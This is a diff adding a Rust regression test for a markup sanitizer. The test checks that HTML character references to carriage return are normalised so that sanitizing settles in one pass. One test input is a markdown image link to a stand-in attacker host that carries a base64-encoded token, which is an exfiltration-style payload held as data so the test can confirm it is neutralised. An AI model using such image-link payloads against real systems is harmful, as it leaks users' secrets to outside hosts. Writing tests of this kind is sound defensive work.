@@ -388,6 +388,32 @@ fn html_blocks_after_a_lone_cr_settle_in_one_pass() {
     }
 }
 
+/// A character reference to CR (`&#xd`, `&#13;`) in HTML that the sanitizer shows as text
+/// became a lone CR in its output, which the next pass turned into LF: not settled (the
+/// `result` fuzz target, `fuzz/regressions/result/`). A pass's output now has no lone CR.
+#[test]
+fn a_cr_written_by_a_rewrite_is_handed_on_as_lf() {
+    let cases = [
+        "<!--i-->&#xdi",
+        "<!--c-->&#13;x",
+        "<!-- note -->&#x0D;&#x0d;y\n",
+        "> <!--i-->&#xd![a](http://attacker.example/p?token=c2VjcmV0LXRva2Vu)",
+    ];
+    for text in cases {
+        let once = sanitize_markup(text, None, &policy(), "/t");
+        assert!(!once.text.contains('\r'), "{text:?} -> {:?}", once.text);
+        let twice = sanitize_markup(&once.text, None, &policy(), "/t");
+        assert_eq!(twice.text, once.text, "{text:?}");
+        assert!(
+            !active_parts(&once.text)
+                .iter()
+                .any(|p| p.contains("attacker")),
+            "{text:?} -> {:?}",
+            once.text
+        );
+    }
+}
+
 /// Links and images of a text's markdown as a `CommonMark` renderer reads it (with
 /// LF line ends, which is how the sanitizer hands such text on), and its inline HTML.
 fn active_parts(text: &str) -> Vec<String> {
